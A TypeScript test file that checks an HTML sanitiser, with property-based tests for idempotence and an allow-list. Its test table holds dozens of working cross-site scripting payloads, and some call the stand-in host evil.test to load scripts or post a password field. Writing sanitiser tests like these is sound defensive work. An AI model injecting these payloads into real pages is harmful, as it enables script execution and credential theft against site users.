import { array, assert, constantFrom, property, string } from 'fast-check';
import { describe, expect, it } from 'vitest';
import { hasContent, sanitiseRichText, sanitiseStoredRichText } from './rich-text.ts';

/** Ways in which scripts, styles and trackers were smuggled into others' pages; each with what is left of it. */
const attacks: [html: string, left: string][] = [
  ['<script>alert(1)</script>', ''],
  ['<SCRIPT SRC=//evil.test/x.js></SCRIPT>', ''],
  ['<scr<script>ipt>alert(1)</scr</script>ipt>', 'ipt&gt;alert(1)ipt&gt;'],
  ['<img src=x onerror=alert(1)>', ''],
  ['<img """><script>alert("x")</script>">', '"&gt;'],
  ['<IMG SRC=`javascript:alert(1)`>', ''],
  ['<svg onload=alert(1)>', ''],
  ['<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', 'x'],
  ['<svg><style><img src=x onerror=alert(1)></style></svg>', ''],
  ['<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', ''],
  ['<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', ''],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<p></p>'],
  ['<a href="javascript:alert(1)">x</a>', 'x'],
  ['<a href="JaVaScRiPt:alert(1)">x</a>', 'x'],
  ['<a href="java\nscript:alert(1)">x</a>', 'x'],
  ['<a href="&#106;&#97;vascript:alert(1)">x</a>', 'x'],
  ['<a href="\u0001javascript:alert(1)">x</a>', 'x'],
  ['<a href="data:text/html,<script>alert(1)</script>">x</a>', 'x'],
  ['<a href="vbscript:msgbox(1)">x</a>', 'x'],
  ['<a href="//evil.test">x</a>', 'x'],
  ['<a href="/api/auth/logout">x</a>', 'x'],
  [
    '<a href="https://ok.test" onmouseover="alert(1)" target="_top" ping="https://evil.test">x</a>',
    '<a href="https://ok.test" rel="noopener nofollow">x</a>',
  ],
  ['<a href="https://ok.test" rel="opener">x</a>', '<a href="https://ok.test" rel="noopener nofollow">x</a>'],
  ['<p style="background:url(https://evil.test)" class="ws-dialog" id="main">x</p>', '<p>x</p>'],
  ['<style>@import "https://evil.test"</style>x', 'x'],
  ['<link rel=stylesheet href=//evil.test>', ''],
  ['<meta http-equiv=refresh content="0;url=//evil.test">', ''],
  ['<base href=//evil.test>', ''],
  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', ''],
  ['<object data=//evil.test></object><embed src=//evil.test>', ''],
  ['<form action=//evil.test><input name=password><button>x</button></form>', 'x'],
  ['<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>', ''],
  ['<details open ontoggle=alert(1)>x</details>', 'x'],
  ['<marquee onstart=alert(1)>x</marquee>', 'x'],
  ['<body onload=alert(1)>x', 'x'],
  ['<template><img src=x onerror=alert(1)></template>', ''],
  ['<textarea><img src=x onerror=alert(1)></textarea>', ''],
  ['<xmp><img src=x onerror=alert(1)></xmp>', ''],
  ['<!--[if gte IE 4]><script>alert(1)</script><![endif]-->', ''],
  ['<!--><img src=x onerror=alert(1)>-->', '--&gt;'],
  ['<?xml-stylesheet href="javascript:alert(1)"?>x', 'x'],
  ['<![CDATA[<img src=x onerror=alert(1)>]]>', ''],
  ['&lt;script&gt;alert(1)&lt;/script&gt;', '&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['<p>a\0<scr\0ipt>b</p>', '<p>a</p>'],
];

const pieces = constantFrom(
  ...attacks.flatMap(([html]) => html.split(/(?=[<>"'&])/)),
  ...['<p>', '</p>', '<b>', '</b>', '<ul>', '<li>', '<a href="https://ok.test">', '</a>', '<br/>', '&amp;', '&#x3c;'],
);

describe('rich text', () => {
  it.each(attacks)('makes harmless: %s', (html, left) => {
    expect(sanitiseRichText(html)).toBe(left);
  });

  it('keeps the allowed formatting', () => {
    const html =
      '<h3>Title</h3><p>One <strong>two</strong> <em>three</em> <u>four</u> <s>five</s><br />six</p><ul><li><p>a</p></li></ul><ol><li>b</li></ol><blockquote><p>c &amp; d</p></blockquote><hr /><p><a href="mailto:a@b.test" rel="noopener nofollow">mail</a></p>';
    expect(sanitiseRichText(html)).toBe(html);
    expect(sanitiseRichText('<h1>a</h1><b>b</b><i>c</i><del>d</del>')).toBe(
      '<h2>a</h2><strong>b</strong><em>c</em><s>d</s>',
    );
  });

  it('has nothing more to take away the second time, and only what is allowed is left', () => {
    void assert(
      property(array(pieces, { maxLength: 12 }), string({ maxLength: 8 }), (parts, text) => {
        const clean = sanitiseRichText(parts.join('') + text);
        expect(sanitiseRichText(clean)).toBe(clean);
        for (const [, name, attributes = ''] of clean.matchAll(/<\/?([^\s>/]+)([^>]*)>/g)) {
          expect(name).toMatch(/^(p|br|strong|em|u|s|h[234]|[uo]l|li|blockquote|code|pre|hr|su[bp]|a)$/);
          expect(attributes.replace(/^ href="(https?:\/\/|mailto:)[^"]*" rel="noopener nofollow"$/i, '')).toMatch(
            /^ ?\/?$/,
          );
        }
      }),
      { numRuns: 2_000 },
    );
  });

  it('knows an empty text', () => {
    for (const html of ['', '<p></p>', '<p>&nbsp;<br />\u200b</p>', '<ul><li> </li></ul>', '<hr />'])
      expect([html, hasContent(sanitiseRichText(html))]).toEqual([html, false]);
    for (const html of ['a', '<p>.</p>', '<p>&lt;</p>']) expect([html, hasContent(html)]).toEqual([html, true]);
  });
});

describe('a text that was stored', () => {
  it('is as harmless as a new one, the first time and every time after', () => {
    for (const [html] of attacks)
      for (const _again of [1, 2]) expect(sanitiseStoredRichText(html)).toBe(sanitiseRichText(html));
    const clean = '<p>Once <strong>more</strong></p>';
    expect([sanitiseStoredRichText(clean), sanitiseStoredRichText(clean)]).toEqual([clean, clean]);
  });

  it('limits its cache', () => {
    const long = (at: number) => `<p>${at}${'x'.repeat(1_000_000)}</p>`;
    for (let at = 0; at < 10; at += 1) expect(sanitiseStoredRichText(long(at))).toBe(long(at));
  });
});
